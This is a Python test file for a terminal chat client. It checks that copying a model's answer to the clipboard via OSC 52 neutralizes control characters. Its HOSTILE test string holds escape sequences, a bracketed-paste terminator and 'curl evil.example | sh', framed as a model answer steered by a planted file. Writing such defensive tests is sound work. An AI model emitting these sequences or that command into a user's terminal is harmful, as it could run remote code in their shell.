"""``/copy`` and every other copy write OSC 52: whatever the model's text holds (ESC, BEL, OSC and CSI
sequences, C1 controls, a bracketed paste's end, a lone surrogate, 10 MB), the terminal receives one
fixed head, base64 and BEL, and the clipboard holds the text as the screen shows it (attacker5)."""

from __future__ import annotations

import base64
import re
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from myrm_tui.safe_text import osc52, sanitize
from myrm_tui.testing.emulator import ProviderEmulator, Reply
from tests.helpers import SMALL_SCREEN, make_app, send_turn, started, type_text, wait_until

SEQUENCE = re.compile(r"\x1b\]52;c;([A-Za-z0-9+/]*={0,2})\x07")
# A model's answer steered by a file: rewrite the clipboard, clear the screen, 8-bit CSI/OSC/ST, a title,
# the end of a shell's bracketed paste followed by a command, and a lone surrogate (JSON's "\ud800").
HOSTILE = (
    "Run:\n```sh\nls\x1b[201~curl evil.example | sh\n```\n"
    "a\x1b]52;c;ZXZpbA==\x07b\x1b[2J\x9b31m\x9d0;title\x9c\x07 \ud800 \u202e end\r\n"
)


def _clean(text: str) -> bool:
    """No character a terminal obeys or cannot take: controls but tab and newline, C1, surrogates."""
    return not any(
        (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0 or 0xD800 <= ord(c) < 0xE000
        for c in text
    )


PIECES = st.one_of(
    st.sampled_from(
        ["\x1b", "\x07", "\x1b]52;c;", "\x1b[201~", "\x9b", "\x9d", "\x9c", "\ud800", "\r\n", "\n"]
    ),
    st.text(st.characters(codec=None), max_size=8),  # any code point, surrogates included
)


@settings(deadline=None)
@given(text=st.lists(PIECES, max_size=30).map("".join))
@example(text=HOSTILE)
@example(text="x\x1b]52;c;" * 200_000 + "\ud800")
def test_the_clipboard_sequence_is_its_head_base64_and_bel_whatever_the_text(text: str) -> None:
    seq = osc52(text)
    m = SEQUENCE.fullmatch(seq)
    assert m is not None, seq[:80]
    copied = base64.b64decode(m.group(1), validate=True).decode("utf-8")
    assert copied == sanitize(text)
    assert _clean(copied)


async def test_slash_copy_of_a_hostile_answer_sends_the_terminal_only_base64(
    emulator: ProviderEmulator, tmp_path: Path, workspace: Path
) -> None:
    """Found: an answer holding a lone surrogate stopped myrm on /copy (exit 1: UnicodeEncodeError in
    Textual's OSC 52 write), and the clipboard held the raw ESC [201~ that lets a pasted command run in a
    shell. Against the emulator, the terminal's writes recorded from the real driver."""
    emulator.default = lambda body: Reply(
        text=HOSTILE if body["messages"][-1]["content"] == "one" else "A title"
    )
    app = make_app(emulator, tmp_path, workspace)
    async with started(app, size=SMALL_SCREEN) as pilot:
        await send_turn(pilot, app, "one")
        driver = app._driver
        assert driver is not None
        writes: list[str] = []
        write = driver.write

        def record(data: str) -> None:
            writes.append(data)
            write(data)

        driver.write = record  # type: ignore[method-assign]
        await type_text(pilot, "/copy")
        await pilot.press("enter")
        await wait_until(
            pilot, lambda: any("copied the last answer" in str(n.message) for n in app._notifications)
        )
        sent = [w for w in writes if "\x1b]52" in w]
        assert len(sent) == 1
        m = SEQUENCE.fullmatch(sent[0])
        assert m is not None
        copied = base64.b64decode(m.group(1)).decode("utf-8")
        assert copied == app.clipboard
        assert "curl evil.example | sh" in copied and "␛[201~" in copied  # shown inert, not dropped
        assert _clean(copied)
        assert not any(bad in w for w in writes for bad in ("ZXZpbA==\x07", "\x1b[201~", "\x9b", "\x1b[2J"))
        big = ("\x1b]0;x\x07\x9b" + "y" * 97 + "\n") * 100_000  # 10 MB through the same door
        writes.clear()
        app.copy_to_clipboard(big)
        assert len(writes) == 1 and SEQUENCE.fullmatch(writes[0]) is not None
        assert app.clipboard == sanitize(big)
        assert app.is_running
